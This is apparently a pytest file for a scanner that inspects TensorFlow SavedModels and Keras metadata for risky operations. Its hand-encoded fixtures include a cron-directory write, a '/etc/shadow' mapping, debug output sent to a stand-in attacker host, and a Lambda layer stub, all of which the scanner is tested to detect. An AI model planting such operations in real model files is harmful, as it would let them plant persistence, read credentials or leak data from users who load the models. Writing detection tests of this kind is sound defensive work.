"""TensorFlow SavedModel graphs and Keras metadata, decoded without TensorFlow.

``tests/assets/savedmodel`` holds real SavedModels written by TensorFlow 2.21 (see its
``generate.py``); the rest are protobufs hand-encoded below along the same .proto schema.
"""

from __future__ import annotations

import base64
import contextlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mamori.findings import FileFormat, Severity, Verdict
from mamori.scan import scan_bytes, scan_path
from mamori.scan._internal.protowire import ProtoError, WireType, iter_fields
from mamori.scan.formats.interface import Probe
from mamori.scan.formats.savedmodel import RISKY_OPS, SavedModelHandler

ASSETS = Path(__file__).parents[2] / "assets" / "savedmodel"


# --- a minimal protobuf encoder ---------------------------------------------------------------
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _len(number: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _int(number: int, value: int) -> bytes:
    return _varint(number << 3) + _varint(value)


def _attr(key: str, value: bytes) -> bytes:
    return _len(5, _len(1, key) + _len(2, value))  # NodeDef.attr map entry


def _node(name: str, op: str, *, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    return _len(1, name) + _len(2, op) + b"".join(_len(3, i) for i in inputs) + attrs


def _const(name: str, text: str) -> bytes:
    tensor = _int(1, 7) + _len(8, text)  # TensorProto: dtype DT_STRING, string_val
    return _node(name, "Const", attrs=_attr("value", _len(8, tensor)))


def _function(name: str, *nodes: bytes) -> bytes:
    return _len(1, _len(1, name)) + b"".join(_len(3, n) for n in nodes)


def _saved_model(graph_nodes: list[bytes] = (), functions: list[bytes] = ()) -> bytes:
    library = b"".join(_len(1, f) for f in functions)
    graph = b"".join(_len(1, n) for n in graph_nodes) + (_len(2, library) if library else b"")
    meta_info = _len(4, "serve")
    meta = _len(1, meta_info) + _len(2, graph)
    return _int(1, 1) + _len(2, meta)


def _rules(report) -> set[str]:
    return {f.rule_id for f in report.findings}


def _scan(data: bytes):
    return scan_bytes(data, "saved_model.pb")


# --- real SavedModels ------------------------------------------------------------------------
def test_a_benign_savedmodel_directory_has_no_findings():
    report = scan_path(ASSETS / "benign")
    assert report.findings == ()
    formats = {m.path[0]: m.format for m in report.members}
    assert formats["saved_model.pb"] is FileFormat.TF_SAVEDMODEL
    assert formats["fingerprint.pb"] is FileFormat.TF_SAVEDMODEL


def test_tf_py_function_is_critical():
    report = scan_path(ASSETS / "py_function" / "saved_model.pb")
    hits = [f for f in report.findings if f.rule_id == "MAM-TF-001"]
    assert hits
    assert hits[0].severity is Severity.CRITICAL
    assert "EagerPyFunc" in (hits[0].evidence or "")


def test_tf_io_read_and_write_file_are_reported_with_their_paths():
    report = scan_path(ASSETS / "file_ops" / "saved_model.pb")
    evidence = " ".join(f.evidence or "" for f in report.findings if f.rule_id == "MAM-TF-002")
    assert "ReadFile" in evidence
    assert "WriteFile" in evidence
    assert "/nonexistent/mamori-test/secret.txt" in evidence


# --- hand-encoded graphs --------------------------------------------------------------------
def test_checkpoint_ops_in_the_tf1_saver_scope_are_not_reported():
    data = _saved_model([_node("save/SaveV2", "SaveV2"), _node("save/RestoreV2", "RestoreV2")])
    assert _scan(data).findings == ()


def test_checkpoint_ops_in_traced_save_functions_are_not_reported():
    fn = _function("__inference__traced_save_42", _node("SaveV2", "SaveV2"))
    assert _scan(_saved_model(functions=[fn])).findings == ()


def test_a_checkpoint_write_outside_the_saver_is_reported():
    data = _saved_model(
        [_const("path", "/etc/cron.d/x"), _node("evil/SaveV2", "SaveV2", inputs=("path",))]
    )
    report = _scan(data)
    hits = [f for f in report.findings if f.rule_id == "MAM-TF-002"]
    assert hits
    assert "/etc/cron.d/x" in (hits[0].evidence or "")


def test_a_write_file_hidden_in_a_traced_save_function_is_still_reported():
    fn = _function("__inference__traced_save_1", _node("w", "WriteFile"))
    assert "MAM-TF-002" in _rules(_scan(_saved_model(functions=[fn])))


def test_ops_in_every_library_function_are_checked():
    fns = [_function("f1", _node("a", "Identity")), _function("f2", _node("b", "PyFuncStateless"))]
    assert "MAM-TF-001" in _rules(_scan(_saved_model(functions=fns)))


def test_print_to_a_file_is_reported_but_print_to_stderr_is_not():
    to_file = _node("p", "PrintV2", attrs=_attr("output_stream", _len(2, "file:///tmp/leak")))
    to_err = _node("q", "PrintV2", attrs=_attr("output_stream", _len(2, "stderr")))
    assert "MAM-TF-004" in _rules(_scan(_saved_model([to_file])))
    assert _scan(_saved_model([to_err])).findings == ()


def test_debug_identity_with_debug_urls_is_reported():
    urls = _len(1, _len(2, "grpc://attacker.invalid:6064"))  # AttrValue.list.s
    node = _node("d", "DebugIdentity", attrs=_attr("debug_urls", urls))
    report = _scan(_saved_model([node]))
    hits = [f for f in report.findings if f.rule_id == "MAM-TF-004"]
    assert hits
    assert "grpc://attacker.invalid:6064" in (hits[0].evidence or "")


def test_a_tf_data_service_op_is_a_network_finding():
    assert "MAM-TF-003" in _rules(_scan(_saved_model([_node("s", "DataServiceDatasetV4")])))


def test_an_immutable_const_mapping_a_file_shows_the_path():
    node = _node("c", "ImmutableConst", attrs=_attr("memory_region_name", _len(2, "/etc/shadow")))
    hits = [f for f in _scan(_saved_model([node])).findings if f.rule_id == "MAM-TF-002"]
    assert "/etc/shadow" in (hits[0].evidence or "")


def test_a_vocabulary_table_read_is_low_and_leaves_the_verdict_safe():
    report = _scan(_saved_model([_node("t", "InitializeTableFromTextFileV2")]))
    assert [f.rule_id for f in report.findings] == ["MAM-TF-006"]
    assert report.verdict is Verdict.SAFE


def test_many_identical_ops_collapse_into_one_finding():
    nodes = [_node(f"r{i}", "ReadFile") for i in range(50)]
    hits = [f for f in _scan(_saved_model(nodes)).findings if f.rule_id == "MAM-TF-002"]
    assert len(hits) == 1
    assert "+45 more" in (hits[0].evidence or "")


def test_a_truncated_saved_model_is_a_finding():
    data = _saved_model([_node("a", "ReadFile")])
    report = _scan(data[:-3])
    assert "MAM-TF-005" in _rules(report)


def test_an_empty_meta_graph_is_not_claimed_and_a_pb_file_stays_unsafe():
    report = _scan(_int(1, 1) + _len(2, b""))
    assert report.format is FileFormat.UNKNOWN
    assert report.verdict is Verdict.UNSAFE


# --- keras_metadata.pb ---------------------------------------------------------------------
def _keras_metadata(*layers: dict[str, object]) -> bytes:
    nodes = b""
    for i, layer in enumerate(layers):
        obj = (
            _int(2, i)
            + _len(3, f"root.layer-{i}")
            + _len(4, "_tf_keras_layer")
            + _len(5, json.dumps(layer))
        )
        nodes += _len(1, obj)
    return nodes


def test_keras_metadata_with_a_lambda_layer_is_critical():
    code = base64.b64encode(b"\xe3\x00\x00\x00\x00system").decode()
    lam = {
        "class_name": "Lambda",
        "config": {"function": [code, None, None], "function_type": "lambda"},
    }
    report = scan_bytes(
        _keras_metadata({"class_name": "Dense", "config": {}}, lam), "keras_metadata.pb"
    )
    assert report.format is FileFormat.TF_SAVEDMODEL
    assert "MAM-KERAS-001" in _rules(report)


def test_benign_keras_metadata_is_clean():
    report = scan_bytes(
        _keras_metadata({"class_name": "Dense", "config": {"units": 2}}), "keras_metadata.pb"
    )
    assert report.findings == ()


# --- sniffing and fuzzing ------------------------------------------------------------------
def test_an_onnx_model_header_is_not_claimed():
    onnx_like = _int(1, 8) + _len(2, "pytorch") + _len(3, "2.1")
    probe = Probe(head=onnx_like, tail=onnx_like, size=len(onnx_like), name="")
    assert not SavedModelHandler().sniff(probe)


def test_every_risky_op_has_a_rationale():
    assert all(why for _, why in RISKY_OPS.values())


@given(st.binary(max_size=256))
@settings(max_examples=300, deadline=None)
def test_the_wire_reader_raises_only_proto_errors(data):
    with contextlib.suppress(ProtoError):
        for field in iter_fields(memoryview(data)):
            assert field.number > 0


_fields = st.lists(
    st.tuples(st.integers(1, 2000), st.one_of(st.integers(0, 2**64 - 1), st.binary(max_size=40))),
    max_size=10,
)


@given(_fields)
@settings(max_examples=200, deadline=None)
def test_encoded_fields_decode_to_the_same_values(fields):
    encoded = b"".join(_int(n, v) if isinstance(v, int) else _len(n, v) for n, v in fields)
    decoded = [
        (f.number, f.value if f.wire_type is WireType.VARINT else bytes(f.data))
        for f in iter_fields(memoryview(encoded))
    ]
    assert decoded == fields


@given(st.binary(max_size=512))
@settings(max_examples=200, deadline=None)
def test_garbage_after_a_saved_model_header_never_raises(tail):
    report = _scan(b"\x08\x01\x12" + _varint(len(tail)) + tail)
    assert "MAM-GEN-001" not in _rules(report)


@given(st.lists(st.sampled_from([*sorted(RISKY_OPS), "Identity", "MatMul"]), max_size=6))
@settings(max_examples=100, deadline=None)
def test_random_graphs_never_raise(ops):
    fn = _function("f", *(_node(f"n{i}", op) for i, op in enumerate(ops)))
    report = _scan(_saved_model([_node("g", ops[0])] if ops else [], [fn]))
    assert "MAM-GEN-001" not in _rules(report)


@pytest.mark.parametrize("name", ["benign", "py_function", "file_ops"])
def test_assets_are_small(name):
    total = sum(p.stat().st_size for p in (ASSETS / name).rglob("*") if p.is_file())
    assert total < 64 * 1024


_RSS_SCRIPT = """
import resource, sys
from mamori.scan import scan_path

def varint(n):
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)

def head(number, length):
    return varint(number << 3 | 2) + varint(length)

path, n = sys.argv[1], int(sys.argv[2])
tensor_len = len(head(4, n)) + n
attr_val = head(8, tensor_len)
entry = head(1, 5) + b"value" + head(2, len(attr_val) + tensor_len) + attr_val
node = head(1, 1) + b"c" + head(2, 5) + b"Const" + head(5, len(entry) + tensor_len) + entry
graph = head(1, len(node) + tensor_len) + node
meta = head(2, len(graph) + tensor_len) + graph
with open(path, "wb") as f:
    f.write(b"\\x08\\x01" + head(2, len(meta) + tensor_len) + meta + head(4, n))
    chunk = b"\\0" * (1 << 20)
    for _ in range(n >> 20):
        f.write(chunk)
    f.write(b"\\0" * (n % (1 << 20)))
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
report = scan_path(path)
assert report.findings == (), report.findings
assert report.format.value == "tf-savedmodel", report.format
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base)
"""


@pytest.mark.slow
def test_peak_memory_does_not_grow_with_the_graph_size(tmp_path):
    def growth(n: int) -> int:
        out = subprocess.run(
            [sys.executable, "-c", _RSS_SCRIPT, str(tmp_path / f"{n}.pb"), str(n)],
            check=True,
            capture_output=True,
            text=True,
        )
        return int(out.stdout.strip())

    small, large = growth(1 << 20), growth(256 << 20)
    # ru_maxrss is in KiB: the file is mapped and walked, never copied into memory.
    assert large - small < 48 * 1024


def test_every_op_risk_maps_to_a_catalogue_rule():
    from mamori.scan.formats.savedmodel import _RULE, OpRisk
    from mamori.scan.rules import RULES

    assert set(_RULE) == set(OpRisk)
    assert all(rule_id in RULES for rule_id in _RULE.values())


def test_a_savedmodel_without_schema_version_is_recognised_and_a_const_graph_is_safe():
    # proto3 leaves the default schema version (0) out: the file starts with its MetaGraphDef.
    tensor = _int(1, 1) + _len(4, b"\x00\x00\x80\x3f")  # DT_FLOAT, tensor_content
    graph = _len(1, _node("c", "Const", attrs=_attr("value", _len(8, tensor))))
    data = _len(2, _len(2, graph))
    report = _scan(data)
    assert report.format is FileFormat.TF_SAVEDMODEL
    assert report.verdict is Verdict.SAFE, report.findings


def test_a_savedmodel_without_schema_version_still_reports_risky_ops():
    graph = _len(1, _node("p", "PyFunc"))
    assert "MAM-TF-001" in _rules(_scan(_len(2, _len(2, graph))))
